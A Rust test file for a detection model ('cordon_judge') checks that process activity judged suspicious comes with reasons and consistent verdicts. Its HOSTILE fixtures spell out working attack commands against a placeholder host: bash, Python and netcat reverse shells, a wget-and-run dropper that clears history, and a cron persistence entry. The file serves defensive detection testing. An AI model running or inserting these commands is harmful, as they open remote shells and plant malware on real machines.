//! The committed model behind the judge: what is called malicious has reasons, and the reasons are
//! about the story.
#![expect(clippy::unwrap_used, reason = "a failure to set up is a failed test")]

use std::path::Path;
use std::sync::Arc;

use cordon_behavior::story::Story;
use cordon_judge::{Judge, Options};
use cordon_model::Model;
use cordon_proto::verdict::VerdictKind;

fn judge() -> Judge {
    let artifact = Path::new(env!("CARGO_MANIFEST_DIR")).join("../model/artifact");
    Judge::new(
        Arc::new(Model::load(&artifact).unwrap()),
        Options::default(),
    )
}

const HOSTILE: [&str; 6] = [
    r#"{"id":"bash","process":{"exe":"/usr/bin/bash","argv":["bash","-i"],"cwd":"/","uid":33,"euid":33,"tty":false,"stdin":"socket","stdout":"socket","stderr":"socket"},
    "ancestors":[{"exe":"/usr/sbin/nginx","argv":["nginx: worker process"],"uid":33}],
    "connections":[{"direction":"out","protocol":"tcp","address":"203.0.113.9","port":4444}]}"#,
    r#"{"id":"python","process":{"exe":"/usr/bin/dash","argv":["/bin/sh","-i"],"cwd":"/tmp","uid":0,"euid":0,"tty":false,"stdin":"socket","stdout":"socket","stderr":"socket"},
    "ancestors":[{"exe":"/usr/bin/python3.11","argv":["python3","-c","import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])"],"uid":0}],
    "connections":[{"direction":"out","protocol":"tcp","address":"203.0.113.9","port":9001}]}"#,
    r#"{"id":"line","command":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}"#,
    r#"{"id":"fifo","command":"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"}"#,
    r#"{"id":"dropper","command":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh; history -c"}"#,
    r#"{"id":"session","session":["uname -a","cd /tmp","wget http://203.0.113.9/x86 -O .x","chmod +x .x","./.x &","rm -f .x","(crontab -l; echo '* * * * * /tmp/.x') | crontab -"]}"#,
];

#[test]
fn what_is_called_suspicious_or_worse_has_reasons_of_its_own() {
    let mut judge = judge();
    let mut suspects = 0;
    for line in HOSTILE {
        let story = Story::from_json(line.as_bytes()).unwrap();
        let before = judge.counters().occlusions;
        let verdict = judge.judge(&story, None);
        let runs = judge.counters().occlusions - before;
        if verdict.verdict < VerdictKind::Suspicious {
            continue;
        }
        suspects += 1;
        assert!((1..=24).contains(&runs), "{runs}");
        assert!((1..=5).contains(&verdict.reasons.len()));
        assert!(
            !verdict.reasons[0].text.starts_with("the story as a whole"),
            "{line}"
        );
        assert!(
            verdict.reasons.iter().any(|reason| reason.weight > 0.0),
            "{line}"
        );
        let again = judge.judge(&story, None);
        assert_eq!(again, verdict);
    }
    assert!(
        suspects >= 4,
        "{suspects} of {} were suspects",
        HOSTILE.len()
    );
}

#[test]
fn two_judges_agree() {
    let (mut one, mut other) = (judge(), judge());
    assert_eq!(one.model_id(), other.model_id());
    for line in HOSTILE {
        let story = Story::from_json(line.as_bytes()).unwrap();
        assert_eq!(one.judge(&story, None), other.judge(&story, None));
    }
}
